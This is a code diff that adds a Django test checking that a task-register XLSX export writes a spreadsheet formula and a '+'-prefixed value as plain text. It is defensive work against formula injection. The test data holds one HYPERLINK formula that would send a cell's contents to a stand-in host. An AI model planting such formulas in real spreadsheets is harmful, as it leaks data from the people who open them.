@@ -191,3 +191,15 @@ def test_it_reads_the_register_in_a_fixed_number_of_queries(
         with django_assert_max_num_queries(10):
             response = client.get(reverse("tasks:register"), {"q": "ra soat"})
         assert response.context["page"].paginator.count == rows
+
+
+def test_the_xlsx_export_writes_a_formula_in_a_report_as_text(client, book, office):
+    from chidao.meetings.models import Directive
+
+    link = '=HYPERLINK("http://example.invalid/?d="&E2,"Chi tiết")'
+    Directive.objects.filter(pk=book["a3"].directive_id).update(text=link, topic="+Giao thông")
+    client.force_login(office)
+    response = client.get(reverse("tasks:register_export"))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[4].value == link)
+    assert (row[4].data_type, row[5].data_type, row[5].value) == ("s", "s", "+Giao thông")
